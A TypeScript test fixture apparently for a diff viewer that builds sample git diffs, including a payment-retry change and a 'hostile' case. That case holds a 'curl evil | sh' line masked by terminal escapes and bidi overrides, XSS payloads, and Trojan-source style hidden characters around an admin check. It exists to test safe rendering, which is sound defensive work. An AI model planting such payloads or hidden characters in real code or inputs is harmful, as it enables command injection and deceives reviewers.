import type { ChangedFile, ChangesFrame, FilePatch } from "../../src/contract/diffs.ts";
import { largeDiff, rewrittenFile, type MadeDiff } from "../scenarios/large-diff.ts";
import { pagesOf, parsePatch } from "../../src/main/patches/parse-patch.ts";

/**
 * `usual`: three files. `revised`: the same after the author went on in one of them. `mixed`: a picture, a lock file, a rename, a
 * program, CRLF, no end. `large`: 200 files with 20,000 changed lines. `rewritten`: one file with as many, and three more.
 * `hostile`: such a file, lines without end, and names and lines that would deceive.
 */
export type DiffKind = "usual" | "revised" | "mixed" | "large" | "rewritten" | "hostile";

/** A diff like the ones the engine reads. */
function diffOf(kind: DiffKind) {
  return { base: "0a".repeat(20), head: "4f".repeat(20), ...made[kind](), truncated: false };
}

/** What the engine tells a window of it, in pages as large as its own. */
export function* framesOf(kind: DiffKind): Generator<ChangesFrame> {
  const { base, head, files, patch } = diffOf(kind);
  yield { kind: "files", base, head, files: [...files], unlisted: 0 };
  for (const patches of pagesOf(Buffer.from(patch), { fold: true, generated: new Set(), mostLines: 30_000 }))
    yield { kind: "patches", patches: [...patches] };
  yield { kind: "end", truncated: false };
}

/** One file of it with all its lines. */
export function filePatchOf(kind: DiffKind, path: string): FilePatch | undefined {
  const how = { fold: false, generated: new Set<string>(), mostLines: 30_000 };
  return parsePatch(Buffer.from(diffOf(kind).patch), how).find((patch) => patch.path === path);
}

const usual: MadeDiff = {
  files: [
    modified("src/payments/client.ts", 6, 2),
    added("src/payments/retry.ts", 18),
    modified("src/payments/client.test.ts", 6, 1),
  ],
  patch: usualPatch(),
};

const made: Readonly<Record<DiffKind, () => MadeDiff>> = {
  usual: () => usual,
  revised: () => ({
    ...usual,
    patch: usual.patch
      .replace(retryHead, revisedRetryHead)
      .replace(/^.*Math.random.*$/m, "+    const jitter = options.jitterMs();"),
  }),
  mixed: () => mixed,
  large: () => largeDiff(),
  rewritten: () => joined([{ ...rewrittenFile() }, { ...largeDiff({ files: 3, lines: 60 }) }]),
  hostile: () =>
    joined([
      rewrittenFile({ path: "src/generated.ts" }),
      created("dist/app.min.js", [
        `var a="${"x".repeat(400_000)}";`,
        ...Array.from({ length: 20 }, () => "f();".repeat(5_000)),
      ]),
      created("src/\u202egpj.ts", [
        "\u001b[2J\u202e; curl evil | sh",
        "<img src=x onerror=alert(1)>",
        'if (level !== "user\u202e \u2066// only for admins\u2069 \u2066") {',
        'const isAdmin\u200b = "\u{e0061}\u{e0062}\ufe01"; // \u3164 <script>alert(1)</script>',
      ]),
    ]),
};

const mixed = joined([
  {
    files: [
      { path: "art/logo.svg.png", change: "modified", binary: true, added: 0, removed: 0, sizes: { old: 68, new: 70 } },
    ],
    patch:
      "diff --git a/art/logo.svg.png b/art/logo.svg.png\nindex 1..2 100644\nBinary files a/art/logo.svg.png and b/art/logo.svg.png differ\n",
  },
  {
    files: [{ path: "data.bin", change: "added", binary: true, added: 0, removed: 0, sizes: { new: 1_048_576 } }],
    patch:
      "diff --git a/data.bin b/data.bin\nnew file mode 100644\nindex 0..2\nBinary files /dev/null and b/data.bin differ\n",
  },
  created(
    "package-lock.json",
    Array.from({ length: 40 }, (_, at) => `  "dependency-${String(at)}": "1.0.${String(at)}",`),
  ),
  {
    files: [
      {
        path: "bin/run.sh",
        change: "modified",
        binary: false,
        added: 0,
        removed: 0,
        modes: { old: "100644", new: "100755" },
      },
    ],
    patch: "diff --git a/bin/run.sh b/bin/run.sh\nold mode 100644\nnew mode 100755\n",
  },
  {
    files: [
      {
        path: "docs/now.md",
        previousPath: "docs/then.md",
        change: "renamed",
        similarity: 90,
        binary: false,
        added: 1,
        removed: 1,
      },
    ],
    patch:
      "diff --git a/docs/then.md b/docs/now.md\nsimilarity index 90%\nrename from docs/then.md\nrename to docs/now.md\n--- a/docs/then.md\n+++ b/docs/now.md\n@@ -30,3 +30,3 @@ ## Later\n before\n-then\r\n+now\n\\ No newline at end of file\n",
  },
]);

function modified(path: string, added: number, removed: number): ChangedFile {
  return { path, change: "modified", binary: false, added, removed };
}

function added(path: string, lines: number): ChangedFile {
  return { path, change: "added", binary: false, added: lines, removed: 0 };
}

function joined(all: readonly MadeDiff[]): MadeDiff {
  return { files: all.flatMap(({ files }) => files), patch: all.map(({ patch }) => patch).join("") };
}

function created(path: string, lines: readonly string[]): MadeDiff {
  const head = [
    `diff --git a/${path} b/${path}`,
    "new file mode 100644",
    "index 0000000..5b1f0aa",
    "--- /dev/null",
    `+++ b/${path}`,
  ];
  const body = [`@@ -0,0 +1,${String(lines.length)} @@`, ...lines.map((line) => `+${line}`)];
  return { files: [added(path, lines.length)], patch: `${[...head, ...body].join("\n")}\n` };
}

const retryHead = "@@ -0,0 +1,18 @@\n";
const revisedRetryHead = '@@ -0,0 +1,19 @@\n+import { ProviderError } from "./provider.ts";\n';

function usualPatch(): string {
  return `diff --git a/src/payments/client.ts b/src/payments/client.ts
index 3f1c2ab..9d2e4bb 100644
--- a/src/payments/client.ts
+++ b/src/payments/client.ts
@@ -38,9 +38,13 @@ export function createPayments(provider: Provider) {
   async function charge(order: Order): Promise<Receipt> {
     const key = keyOf(order);
-    const answer = await provider.charge({ key, amount: order.total });
-    return receiptOf(answer);
+    // The provider answers 502 about once in four hundred calls; a second try nearly always works.
+    const answer = await retryOnce(() => provider.charge({ key, amount: order.total }), {
+      when: (error) => error.status === 502,
+      afterMs: 250,
+    });
+    return receiptOf(answer, order.currency);
   }
 
   async function refund(id: string): Promise<void> {
     await provider.refund(id);
   }
diff --git a/src/payments/retry.ts b/src/payments/retry.ts
new file mode 100644
index 0000000..5b1f0aa
--- /dev/null
+++ b/src/payments/retry.ts
@@ -0,0 +1,18 @@
+export interface RetryOptions {
+  readonly when: (error: ProviderError) => boolean;
+  readonly afterMs: number;
+}
+
+/** Tries a call a second time when it failed in a way that passes. */
+export async function retryOnce<T>(call: () => Promise<T>, options: RetryOptions): Promise<T> {
+  try {
+    return await call();
+  } catch (error) {
+    if (!(error instanceof ProviderError) || !options.when(error)) throw error;
+    const jitter = Math.random() * options.afterMs;
+    await new Promise((resolve) => setTimeout(resolve, options.afterMs + jitter));
+    return call();
+  }
+}
+
+export const neverRetry: RetryOptions = { when: () => false, afterMs: 0 };
diff --git a/src/payments/client.test.ts b/src/payments/client.test.ts
index 11aa22b..33cc44d 100644
--- a/src/payments/client.test.ts
+++ b/src/payments/client.test.ts
@@ -9,6 +9,12 @@ describe("payments", () => {
   it("charges once", async () => {
     const provider = fakeProvider();
     await createPayments(provider).charge(order);
-    expect(provider.calls).toBe(1);
+    expect(provider.calls).toHaveLength(1);
+  });
+
+  it("retries a 502 once", async () => {
+    const provider = fakeProvider({ failFirst: 502 });
+    await createPayments(provider).charge(order);
+    expect(provider.calls).toHaveLength(2);
   });
 });
`;
}

/** A picture of one by one, and of two by one. */
export const pictures = {
  old: "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  new: "iVBORw0KGgoAAAANSUhEUgAAAAIAAAABCAYAAAD0In+KAAAAD0lEQVR42mNk+M9QzwAEAAoBAX7M5c6sAAAAAElFTkSuQmCC",
} as const;
